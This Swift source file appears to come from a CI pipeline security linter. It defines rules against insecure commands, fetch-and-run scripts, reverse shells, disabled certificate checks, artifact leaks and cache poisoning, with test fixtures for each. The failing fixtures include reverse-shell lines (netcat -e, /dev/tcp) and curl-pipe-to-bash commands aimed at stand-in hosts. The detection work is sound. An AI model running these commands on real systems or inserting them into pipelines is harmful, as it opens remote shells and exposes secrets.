import Formats
import Model

/// What pipelines fetch, keep and hand out.
enum DeliveryTables {
  private static let page = ["https://docs.github.com/actions/reference/security/secure-use"]
  static let all: [TableCheck<Pipeline>] = fetching + handing

  private static let fetching: [TableCheck<Pipeline>] = [
    PipelineRow.pipeline(
      Rule(
        "PLM-W020",
        .high,
        "Commands are used by which any output sets variables",
        why:
          "Whatever prints such a line, a file or a title too, sets the environment of later steps.",
        remedy: "Write to $GITHUB_ENV and $GITHUB_PATH",
        aliases: ["CKV_GHA_1", "insecure-commands"],
        references: [
          "https://github.blog/changelog/2020-10-01-github-actions-deprecating-set-env-and-add-path-commands/"
        ],
        mappings: [.attack("T1574")]
      ),
      on: [.github, .action],
      passing: [PipelineRow.steps("- run: echo A=b >> $GITHUB_ENV")],
      failing: [
        PipelineRow.steps("- run: \"echo ::set-env name=A::b\""),
        "on: push\nenv: {ACTIONS_ALLOW_UNSECURE_COMMANDS: true}\njobs: {}",
        PipelineRow.steps("- run: a\n  env: {ACTIONS_ALLOW_UNSECURE_COMMANDS: 'true'}"),
      ]
    ) { pipeline in
      let settings = pipeline.variables.filter {
        $0.value.name == "ACTIONS_ALLOW_UNSECURE_COMMANDS" && $0.value.text.lowercased() == "true"
      }
      let commands = pipeline.scripts.compactMap { way, script -> Fault? in
        for mark in ["::set-env ", "::add-path::"] {
          guard let rest = script.text.after(mark) else { continue }
          let offset = script.text.utf8.count - rest.utf8.count - mark.utf8.count
          return pipeline.fault("\(mark.trimmed) is used", way, at: script.position(at: offset))
        }
        return nil
      }
      return settings.map {
        pipeline.fault("Insecure commands are allowed", $0.way, at: $0.value.position)
      }
        + commands
    },
    PipelineRow.pipeline(
      Rule(
        "PLM-W032",
        .medium,
        "A script is fetched and run",
        why:
          "Whoever may change it there, or on the way, runs what he likes with the job's secrets.",
        remedy: "Fetch a version, verify its checksum, then run it",
        references: page,
        mappings: [.nist("4.1.5"), .attack("T1195.002")]
      ),
      passing: [
        PipelineRow.steps("- run: curl -fsSLo a https://a.test/b && sha256sum -c a.sum && sh a")
      ],
      failing: [
        PipelineRow.steps("- run: curl -fsSL https://a.test/b | bash"),
        "# .gitlab-ci.yml\na: {before_script: [\"wget -qO- https://a.test/b | sh\"]}",
        "# Jenkinsfile\nsh 'bash -c \"$(curl -s https://a.test/b)\"'",
      ]
    ) { pipeline in
      pipeline.scripts.flatMap { way, script in
        DownloadIntoShell.places(in: script.shell).map {
          pipeline.fault("A script is fetched and run", way, at: script.position(at: $0))
        }
      }
    },
    PipelineRow.pipeline(
      Rule(
        "PLM-W033",
        .high,
        "A shell is opened to somebody",
        why: "It is what those do who have got into a pipeline, and what they look for.",
        remedy: "Take it away",
        aliases: ["CKV_GHA_4"],
        references: page,
        mappings: [.attack("T1059.004")]
      ),
      passing: [PipelineRow.steps("- run: nc -z localhost 80")],
      failing: [
        PipelineRow.steps("- run: nc -e /bin/sh 192.0.2.1 4444"),
        PipelineRow.steps("- run: bash -i >& /dev/tcp/192.0.2.1/4444 0>&1"),
      ]
    ) { pipeline in
      pipeline.scripts.flatMap { way, script in
        script.shell.commands.compactMap { command in
          let name = CommandName.base(of: command.words.first?.text ?? "")
          let isNetcat =
            ["nc", "ncat", "netcat"].contains(name)
            && command.words.contains { ["-e", "-c", "--exec", "--sh-exec"].contains($0.text) }
          let isDevice =
            command.redirections.contains { $0.target.text.hasPrefix("/dev/tcp/") }
            && command.words.contains { $0.text == "-i" }
          guard isNetcat || isDevice else { return nil }
          return pipeline.fault(
            "A shell is opened to somebody",
            way,
            at: script.position(at: command.offset)
          )
        }
      }
    },
    PipelineRow.pipeline(
      Rule(
        "PLM-W034",
        .medium,
        "Certificates are not verified",
        why: "Anybody on the way can put their own files in the place of what is fetched.",
        remedy: "Install the certificate that is missing, and verify",
        references: page,
        mappings: [.nist("4.1.5"), .attack("T1557")]
      ),
      passing: ["on: push\nenv: {GIT_SSL_NO_VERIFY: false}\njobs: {}"],
      failing: [
        "on: push\nenv: {GIT_SSL_NO_VERIFY: true}\njobs: {}",
        PipelineRow.steps("- run: curl -k https://a.test/b -o b"),
        "# .gitlab-ci.yml\nvariables: {NODE_TLS_REJECT_UNAUTHORIZED: \"0\"}\na: {script: b}",
      ]
    ) { pipeline in
      let off = [
        "GIT_SSL_NO_VERIFY": ["true", "1"], "NODE_TLS_REJECT_UNAUTHORIZED": ["0"],
        "PYTHONHTTPSVERIFY": ["0"],
      ]
      let settings = pipeline.variables.filter {
        off[$0.value.name]?.contains($0.value.text.lowercased()) ?? false
      }
      let commands = pipeline.scripts.flatMap { way, script in
        script.invocations(.standard).compactMap { command -> Fault? in
          let isOff =
            command.name == "curl" && command.has("-k", "--insecure")
            || command.name == "wget" && command.has("--no-check-certificate")
          return isOff
            ? pipeline.fault(
              "\(command.name) does not verify whom it talks to",
              way,
              at: command.position
            ) : nil
        }
      }
      return settings.map {
        pipeline.fault("\($0.value.name) switches verifying off", $0.way, at: $0.value.position)
      } + commands
    },
  ]

  private static let caching: [String: (input: String, off: [String], isOn: Bool)] = [
    "actions/cache": ("", [], true), "swatinem/rust-cache": ("", [], true),
    "actions/setup-node": ("cache", [""], false), "actions/setup-python": ("cache", [""], false),
    "actions/setup-java": ("cache", [""], false), "actions/setup-go": ("cache", ["false"], true),
    "astral-sh/setup-uv": ("enable-cache", ["false"], true),
    "ruby/setup-ruby": ("bundler-cache", ["false"], false),
    "mozilla-actions/sccache-action": ("", [], true),
    "gradle/actions/setup-gradle": ("cache-disabled", ["true"], true),
    "docker/setup-buildx-action": ("cache-binary", ["false"], true),
  ]
  private static let scanners = [
    "trivy", "grype", "plimsoll", "snyk", "docker scout", "scout-action", "clair", "anchore",
    "cosign", "notation", "attest-build-provenance", "slsa", "syft",
  ]

  private static let handing: [TableCheck<Pipeline>] = [
    PipelineRow.step(
      Rule(
        "PLM-W019",
        .medium,
        "The whole checkout is handed out as an artifact",
        why: "The token in .git/config goes with it, and whatever secrets were written there.",
        remedy: "Name the files that are wanted, and set persist-credentials: false",
        aliases: ["artipacked"],
        references: ["https://github.com/actions/upload-artifact"],
        mappings: [.attack("T1552.001")]
      ),
      passing: ["- uses: actions/upload-artifact@v4\n  with: {path: dist}"],
      failing: [
        "- uses: actions/upload-artifact@v4\n  with: {path: .}",
        "- uses: actions/upload-artifact@v4\n  with: {path: \"${{ github.workspace }}\"}",
      ]
    ) { step in
      guard step.action == "actions/upload-artifact", let path = step.input("path"),
        (path.scalarText ?? "").pieces(on: "\n").contains(where: {
          [
            ".", "./", "./.", "**", "*", "${{ github.workspace }}", "${{github.workspace}}", "..",
            "../",
          ]
          .contains(String($0.trimmed))
        })
      else { return [] }
      return [("The whole checkout is handed out", path.position)]
    },
    PipelineRow.pipeline(
      Rule(
        "PLM-W035",
        .medium,
        "What is released is built from a cache",
        why: "Other runs, those of requests too, may fill the cache with what is then released.",
        remedy: "Build releases without caches",
        aliases: ["cache-poisoning"],
        references: [
          "https://docs.github.com/actions/reference/workflows-and-actions/dependency-caching"
        ],
        mappings: [.attack("T1195.002")]
      ),
      on: [.github],
      passing: [
        "on: push\njobs: {a: {steps: [{uses: actions/cache@v4}]}}",
        "on: release\njobs: {a: {steps: [{uses: actions/setup-node@v4}]}}",
        "on: release\njobs: {a: {steps: [{uses: actions/setup-go@v5, with: {cache: false}}]}}",
      ],
      failing: [
        "on: release\njobs: {a: {steps: [{uses: actions/cache@v4}]}}",
        "on: {push: {tags: [\"v*\"]}}\njobs: {a: {steps: [{uses: actions/setup-node@v4, with: {cache: npm}}]}}",
        "on: release\njobs: {a: {steps: [{uses: actions/setup-go@v5}]}}",
      ]
    ) { pipeline in
      let on = pipeline.root["on"] ?? pipeline.root["true"]
      let branches = on?["push"]?["branches"]?.list ?? []
      guard
        pipeline.isTriggered(by: "release") || on?["push"]?["tags"] != nil
          || branches.contains(where: { $0.scalarText?.hasPrefix("release") ?? false })
      else { return [] }
      return pipeline.steps.compactMap { job, step in
        guard let cache = caching[step.action], let uses = step.uses else { return nil }
        let value = cache.input.isEmpty ? nil : step.input(cache.input)?.scalarText
        let isOn = value.map { !cache.off.contains($0) } ?? cache.isOn
        guard isOn else { return nil }
        return pipeline.fault(
          "\(step.action) fills from a cache",
          "\(job.name)/\(step.number)",
          at: uses.position
        )
      }
    },
    PipelineRow.step(
      Rule(
        "PLM-W036",
        .low,
        "A package is published with a password",
        why: "It is good for ever and from everywhere; a token by OpenID Connect is not.",
        remedy: "Set up trusted publishing, and leave the password out",
        aliases: ["use-trusted-publishing"],
        references: ["https://docs.pypi.org/trusted-publishers/"],
        mappings: [.attack("T1552")]
      ),
      passing: ["- uses: pypa/gh-action-pypi-publish@v1"],
      failing: ["- uses: pypa/gh-action-pypi-publish@v1\n  with: {password: \"${{ secrets.A }}\"}"]
    ) { step in
      let actions = ["pypa/gh-action-pypi-publish", "rubygems/release-gem"]
      guard actions.contains(step.action), let password = step.input("password") else { return [] }
      return [("A package is published with a password", password.position)]
    },
    PipelineRow.pipeline(
      Rule(
        "PLM-W037",
        .low,
        "An image is pushed that nobody looked at",
        why: "Nothing scans or signs it here: what is known of flaws in it goes out with it.",
        remedy: "Scan it before, and sign it after it is pushed",
        references: page,
        mappings: [.nist("4.1.1"), .nist("4.2.1")],
        isOptional: true
      ),
      passing: [
        PipelineRow.steps("- run: docker push a\n- run: cosign sign a"),
        PipelineRow.steps("- uses: docker/build-push-action@v6\n  with: {push: false}"),
      ],
      failing: [
        PipelineRow.steps("- run: docker push a"),
        PipelineRow.steps("- uses: docker/build-push-action@v6\n  with: {push: true}"),
        "# .gitlab-ci.yml\na: {script: [docker buildx build --push .]}",
      ]
    ) { pipeline in
      let texts =
        pipeline.scripts.map { $0.script.text.lowercased() }
        + pipeline.steps.map { $0.step.uses?.text.lowercased() ?? "" }
      guard !texts.contains(where: { text in scanners.contains { text.after($0) != nil } }) else {
        return []
      }
      let pushed = pipeline.scripts.flatMap { way, script in
        script.invocations(.standard).compactMap { command -> Fault? in
          guard ["docker", "podman", "buildah"].contains(command.name),
            command.texts.first == "push" || command.has("--push")
          else { return nil }
          return pipeline.fault(
            "An image is pushed that nobody looked at",
            way,
            at: command.position
          )
        }
      }
      let built = pipeline.steps.compactMap { job, step -> Fault? in
        guard step.action == "docker/build-push-action", let push = step.input("push"), push.isTrue
        else { return nil }
        return pipeline.fault(
          "An image is pushed that nobody looked at",
          "\(job.name)/\(step.number)",
          at: push.position
        )
      }
      return pushed + built
    },
    PipelineRow.pipeline(
      Rule(
        "PLM-W038",
        .low,
        "Whoever starts a workflow decides of what it builds",
        why: "What is built can then not be told from the sources alone.",
        remedy: "Leave the inputs out",
        aliases: ["CKV_GHA_7"],
        references: ["https://slsa.dev/spec/v1.0/requirements"],
        isOptional: true
      ),
      on: [.github],
      passing: ["on: {workflow_dispatch: {}}\njobs: {}"],
      failing: ["on: {workflow_dispatch: {inputs: {a: {type: string}}}}\njobs: {}"]
    ) { pipeline in
      let on = pipeline.root["on"] ?? pipeline.root["true"]
      guard let inputs = on?["workflow_dispatch"]?["inputs"], inputs.map?.isEmpty == false else {
        return []
      }
      return [
        pipeline.fault("Whoever starts it decides of what it builds", "inputs", at: inputs.position)
      ]
    },
  ]
}
